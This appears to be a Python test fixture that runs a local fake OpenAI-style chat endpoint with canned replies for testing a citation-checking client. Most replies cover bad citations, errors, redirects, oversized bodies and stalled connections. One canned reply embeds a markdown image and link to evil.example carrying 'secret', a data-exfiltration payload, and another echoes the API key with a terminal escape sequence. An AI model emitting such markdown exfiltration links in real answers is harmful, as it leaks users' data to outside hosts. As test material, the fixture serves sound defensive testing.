"""An endpoint in OpenAI's form on this machine, in the place of the user's language model.

It answers as the question wishes: `mode NAME` in it. What it was asked is in `asked`.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.waiting import LIMIT_S

ANSWERS = {
    "good": "The Rhine is a river [1]. Boats are kept there [2][1].",
    "list": "It is so [1, 2; 99].",
    "unknown": "It is a river [1] and a sea [7], as everybody knows [42].",
    "uncited": "The Rhine is 1,230 km long, which I know by myself.",
    "invented": "It is long [77].",
    "refuses": "NOT_IN_THE_DOCUMENTS",
    "reasons": "<think>The passages [3] say [4]...</think>\n\nA river [1].",
    "image": "A river [1]. ![pixel](https://evil.example/?q=secret) [see](https://evil.example/x)",
    "empty": "",
}


class StandIn:
    def __init__(self, url: str) -> None:
        self.url = url
        self.asked: list[dict[str, Any]] = []
        self.keys: list[str | None] = []
        self.redirected: list[str] = []
        #: Answers that hang wait for it.
        self.released = threading.Event()

    def prompt(self) -> str:
        return self.asked[-1]["messages"][-1]["content"]


@contextmanager
def stand_in() -> Iterator[StandIn]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *_: object) -> None:
            pass

        def do_GET(self) -> None:
            state.redirected.append(self.path)
            self.reply(200, b"{}")

        def do_POST(self) -> None:
            if self.path != "/v1/chat/completions":
                state.redirected.append(self.path)
            form = json.loads(self.rfile.read(int(self.headers["content-length"])))
            state.asked.append(form)
            state.keys.append(self.headers["authorization"])
            question = form["messages"][-1]["content"]
            modes = re.findall(r"mode (\w+)", question)
            self.act(modes[-1] if modes else "good")

        def act(self, mode: str) -> None:
            if mode in ANSWERS:
                message = {"role": "assistant", "content": ANSWERS[mode]}
                body = {"choices": [{"index": 0, "message": message}]}
                self.reply(200, json.dumps(body).encode())
            elif mode == "key":
                echoed = {"error": {"message": f"bad key {self.headers['authorization']}\x1b[2J"}}
                self.reply(401, json.dumps(echoed).encode())
            elif mode == "busy":
                self.reply(503, b"<html>busy</html>")
            elif mode == "redirect":
                self.send_response(307)
                self.send_header("location", f"{state.url}/elsewhere")
                self.send_header("content-length", "0")
                self.end_headers()
            elif mode == "garbage":
                self.reply(200, b"\xff\xfe not json")
            elif mode == "shape":
                self.reply(200, b'{"choices": [{"message": {"content": [1, 2]}}]}')
            elif mode == "deep":
                self.reply(200, b"[" * 100_000)
            elif mode == "huge":
                self.reply(200, b" " * 3_000_000)
            elif mode == "closes":
                self.close_connection = True
                self.connection.close()
            elif mode == "hangs":
                state.released.wait(LIMIT_S)
                self.close_connection = True
            elif mode == "drips":
                self.send_response(200)
                self.send_header("content-length", "1000000")
                self.end_headers()
                self.drip()

        def drip(self) -> None:
            try:
                while not state.released.is_set():
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.01)
            except OSError:
                pass
            self.close_connection = True

        def reply(self, status: int, body: bytes) -> None:
            self.send_response(status)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            with suppress(OSError):
                self.wfile.write(body)

    class Server(ThreadingHTTPServer):
        def handle_error(self, *_: object) -> None:
            """A client that breaks off is what some tests are about."""

    server = Server(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    state = StandIn(f"http://127.0.0.1:{server.server_address[1]}/v1")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield state
    finally:
        state.released.set()
        server.shutdown()
        thread.join(LIMIT_S)
        server.server_close()
